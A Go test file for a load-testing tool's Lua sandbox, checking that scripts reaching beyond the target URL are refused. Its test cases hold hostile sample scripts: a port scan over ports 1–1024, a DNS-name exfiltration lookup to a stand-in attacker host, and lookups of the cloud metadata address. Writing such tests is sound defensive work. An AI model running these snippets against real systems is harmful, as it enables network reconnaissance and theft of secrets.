package main

import (
	"net"
	"net/http"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/wrklint/wrklint/internal/testutil"
)

// countingHTTP is an HTTP server on 127.0.0.1 counting the requests it
// answers; it returns its port.
func countingHTTP(t *testing.T) (string, *atomic.Int64) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var n atomic.Int64
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		n.Add(1)
		_, _ = w.Write([]byte("ok"))
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	return port, &n
}

// TestScriptTargetPolicy runs scripts (lint gate off, as an attacker would
// have it) that reach past the URL: load pointed at a second local server,
// a port scan, a name lookup, the metadata address. Each is refused with
// exit 4 and a message naming the address, the script line and the flag;
// the second server never sees a request unless it is allowed explicitly.
func TestScriptTargetPolicy(t *testing.T) {
	t.Parallel()
	portA, _ := countingHTTP(t)
	url := "http://127.0.0.1:" + portA + "/"
	tests := []struct {
		name       string
		src        string // %B is the second server's port
		flags      []string
		wantCode   int
		wantStderr string // regexp, with %B
		wantB      bool   // the second server receives the load
	}{
		{name: "load on another port", src: "function setup(t) t.addr = wrk.lookup(wrk.host, \"%B\")[1] end\n", wantCode: 4,
			wantStderr: `^wrkrun: thread\.addr = 127\.0\.0\.1:%B at \S+s\.lua:1 refused by the target policy: not the URL's host and port \(127\.0\.0\.1:` + portA + `\); allow it with --allow-target 127\.0\.0\.1:%B \(or targets\.allow in \.wrklint\.yml\) \(in setup\(\)\)\n$`},
		{name: "allowed explicitly", src: "function setup(t) t.addr = wrk.lookup(wrk.host, \"%B\")[1] end\n",
			flags: []string{"--allow-target", "127.0.0.1:%B"}, wantCode: 0, wantB: true},
		{name: "the address without the port is not enough", src: "function setup(t) t.addr = wrk.lookup(wrk.host, \"%B\")[1] end\n",
			flags: []string{"--allow-target", "127.0.0.1:1"}, wantCode: 4, wantStderr: `thread\.addr = 127\.0\.0\.1:%B at`},
		{name: "set from a thread's init", src: "function init() wrk.thread.addr = wrk.lookup(wrk.host, \"%B\")[1] end\n", wantCode: 4,
			wantStderr: `thread\.addr = 127\.0\.0\.1:%B at \S+s\.lua:1 refused by the target policy.*\(in init\(\), thread 1\)`},
		{name: "port scan", src: "function setup(t)\n  for p = 1, 1024 do wrk.connect(wrk.lookup(wrk.host, p)[1]) end\nend\n", wantCode: 4,
			wantStderr: `wrk\.connect\(127\.0\.0\.1:1\) at \S+s\.lua:2 refused by the target policy: not the URL's host and port.*--allow-target 127\.0\.0\.1:1 `},
		{name: "scan swallowed by pcall", src: "function setup(t)\n  for p = 1, 1024 do pcall(wrk.connect, wrk.lookup(wrk.host, p)[1]) end\nend\n", wantCode: 4,
			wantStderr: `wrk\.connect\(127\.0\.0\.1:1\) at \S+s\.lua:2 refused`},
		{name: "another private host", src: "local a = wrk.lookup(\"10.1.2.3\", \"80\")\n", wantCode: 4,
			wantStderr: `wrk\.lookup\("10\.1\.2\.3"\) at \S+s\.lua:1 refused by the target policy: only the URL's host \(127\.0\.0\.1\) may be looked up; allow it with --allow-target 10\.1\.2\.3 `},
		{name: "a name as a DNS channel", src: "local a = wrk.lookup(\"c2VjcmV0.attacker.example\", \"80\")\n", wantCode: 4,
			wantStderr: `wrk\.lookup\("c2VjcmV0\.attacker\.example"\) at \S+s\.lua:1 refused`},
		{name: "metadata service", src: "function setup(t) t.addr = wrk.lookup(\"169.254.169.254\", 80)[1] end\n", wantCode: 4,
			wantStderr: `wrk\.lookup\("169\.254\.169\.254"\) at \S+s\.lua:1 refused`},
		{name: "the URL's own host and port", src: "function setup(t)\n  assert(wrk.connect(wrk.lookup(wrk.host, wrk.port)[1]))\n  t.addr = wrk.lookup(wrk.host, wrk.port)[1]\nend\n", wantCode: 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			portB, reqsB := countingHTTP(t)
			sub := func(s string) string { return strings.ReplaceAll(s, "%B", portB) }
			script := writeScript(t, "s.lua", sub(tt.src))
			args := []string{"--require-lint=false", "-t1", "-c1", "-d300ms", "-s", script}
			for _, f := range tt.flags {
				args = append(args, sub(f))
			}
			var stdout, stderr testutil.SyncBuffer
			code := run(append(args, url), testEnv(&stdout, &stderr))
			// The lint gate's warning about itself is not the refusal.
			errText := strings.TrimPrefix(stderr.String(), "wrkrun: warning: --require-lint=false: "+script+" is not linted; it still runs in the sandbox\n")
			if code != tt.wantCode {
				t.Fatalf("exit %d, want %d; stderr:\n%s", code, tt.wantCode, errText)
			}
			if tt.wantStderr != "" && !regexp.MustCompile(sub(tt.wantStderr)).MatchString(errText) {
				t.Errorf("stderr %q, want /%s/", errText, sub(tt.wantStderr))
			}
			if got := reqsB.Load() > 0; got != tt.wantB {
				t.Errorf("second server got %d requests; want load there: %v", reqsB.Load(), tt.wantB)
			}
		})
	}
}

// TestLinkLocalTarget: a URL naming a link-local address (the cloud
// metadata service) is refused unless allowed explicitly.
func TestLinkLocalTarget(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"http://169.254.169.254/latest/meta-data/"}, 4, "target 169.254.169.254 refused by default: link-local (169.254.0.0/16, cloud metadata services), allowed only explicitly; allow it with --allow-target 169.254.169.254:80"},
		{[]string{"http://[fe80::1]:8080/"}, 4, "target fe80::1 refused by default: link-local (fe80::/10), allowed only explicitly; allow it with --allow-target [fe80::1]:8080"},
		{[]string{"--allow-target", "169.254.169.254", "http://169.254.169.254/"}, 0, ""},
	} {
		var stdout, stderr testutil.SyncBuffer
		code := run(append([]string{"--dry-run"}, tt.args...), testEnv(&stdout, &stderr))
		if code != tt.code || !strings.Contains(stderr.String(), tt.want) {
			t.Errorf("%v: exit %d, stderr %q; want %d and %q", tt.args, code, stderr.String(), tt.code, tt.want)
		}
	}
}
